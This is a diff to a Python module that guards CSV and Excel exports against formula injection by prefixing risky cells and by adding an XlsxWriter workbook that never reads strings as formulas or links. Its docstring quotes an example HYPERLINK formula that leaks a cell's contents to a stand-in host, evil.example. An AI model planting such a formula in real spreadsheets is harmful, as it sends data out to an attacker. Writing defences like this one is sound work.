@@ -3,11 +3,14 @@
 A title such as `=HYPERLINK("http://evil.example/?leak="&A2,"点此查看")` must reach a clerk's Excel
 as the text it is, not as a live formula (OWASP "CSV Injection"). Every CSV writer goes through
 `writer()`/`dict_writer()`, which prefix a text starting with = + - @ tab or CR with an apostrophe;
-every Excel writer marks text cells as text (`text()`, `append_text()`), which Excel never
-evaluates, so the ledgers keep the title exactly as written.
+every Excel writer marks text cells as text (`text()`, `append_text()` for openpyxl; `workbook()`
+for the streamed ledgers in XlsxWriter), which Excel never evaluates, so the ledgers keep the
+title exactly as written.
 """
 
 import csv
+
+import xlsxwriter
 
 FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
 
@@ -68,3 +71,10 @@ def append_text(ws, values) -> None:
     ws.append(values)
     for cell in ws[ws.max_row]:
         text(cell)
+
+
+def workbook(out) -> xlsxwriter.Workbook:
+    """An XlsxWriter workbook streaming to `out` (a path or a binary file), one row in memory at a
+    time, whose every string is written as text: never read as a formula, a link or a number."""
+    options = {"strings_to_formulas": False, "strings_to_urls": False, "strings_to_numbers": False}
+    return xlsxwriter.Workbook(out, {"constant_memory": True, **options})
